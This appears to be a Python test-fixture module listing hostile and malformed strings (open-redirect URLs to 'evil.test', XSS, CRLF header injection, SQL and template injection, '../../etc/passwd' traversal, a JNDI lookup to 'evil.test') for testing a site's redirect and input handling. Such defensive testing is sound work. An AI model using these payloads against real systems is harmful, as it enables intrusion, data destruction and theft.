"""Bad text for every place that takes text, after the corpus that each face is tried with."""

ELSEWHERE = (
    *("//evil.test", "///evil.test", "////evil.test", "/\\evil.test", "\\\\evil.test"),
    *("/\t/evil.test", "https:evil.test", "https:/evil.test", "http:///evil.test"),
    *("https://app.example@evil.test", "https://evil.test#app.example", "javascript:alert(1)"),
    *("JaVaScRiPt:alert(1)", "data:text/html,<script>", "vbscript:x", "blob:x", "mailto:x"),
    *("//evil\u3002test", "//\u24d4vil.test", "/ /evil.test", "/./\\evil.test", "/../evil.test"),
    *("/..//evil.test", "https://app.example.evil.test", "evil.test", "?x", "#x", "", " /x"),
    *("/a\0b", "/a\r\nSet-Cookie: x=1", "/a\ud800", "/\udfffa", "/\x7f", "/\x85", "/\u2028\0"),
    *("/" + "x" * 5000, "/" + "\u65e5" * 1999, "/\U0001f511" * 700),
)
"""None of these may be led to."""

OWN = (
    *("/\u65e5\u672c\u8a9e", "/kunden/m\u00fcller", "/kunden/m%C3%BCller?q=\u00fc&r=%20#\u00e4"),
    *("/%09/evil.test", "/%5cevil.test", "/%2f%2fevil.test", "/.evil.test", "/%0d%0aSet-Cookie:x"),
    *(
        "/x?next=//evil.test",
        "/\u202egnp.exe",
        "/\U0001f511",
        '/"><svg/onload=alert(1)>',
        "/a'b(c)",
    ),
    *("/{{7*7}}${7*7}", "/stra\u00dfe/e\u0301", "/" + "x" * 1999, "/" + "\u65e5" * 666),
)
"""Each of these is a path of this site, and nowhere else."""

ALIKE = ("Stra\u00dfe", "STRASSE", "\u0131", "i", "\u00e9", "e\u0301", "\u00e9 ", "%", "_")
"""A careless database would make one of two."""

ODD = (
    *("' OR '1'='1", '"; PRAGMA writable_schema=1', "{{7*7}}", "__proto__", "\x1b[2J", "\u202egnp"),
    *(
        '"><svg/onload=alert(1)>',
        "\U0001f511",
        "\u65e5\u672c\u8a9e",
        "a\r\nSet-Cookie: x=1",
        "x" * 5000,
    ),
)
"""Names that mean something to a database, a page, a header or a terminal."""

WORDS = (
    *ALIKE,
    *ODD,
    *("1;DROP TABLE portalkey_attempts", "%' --", "' UNION SELECT 1--", '{"$ne":null}'),
    *("../../etc/passwd", "${jndi:ldap://evil.test}", "<%=7*7%>", "%n%n%s", "null", "[]", "NaN"),
    *("-0", "1e309", "0x1", "\uff11\uff12", "9" * 400, "</script><img src=x onerror=alert(1)>"),
    *("a&client_secret=x#", "*", "A" * 22, "A" * 23),
)
"""Words of other languages, and of nobody's."""

UNSTORABLE = ("a\0b", "\0", "a\ud800b", "\udfff")
"""No database keeps these: NUL, and halves of pairs."""

TEXTS = (*WORDS, *UNSTORABLE, *ELSEWHERE[::5], *OWN[::5])
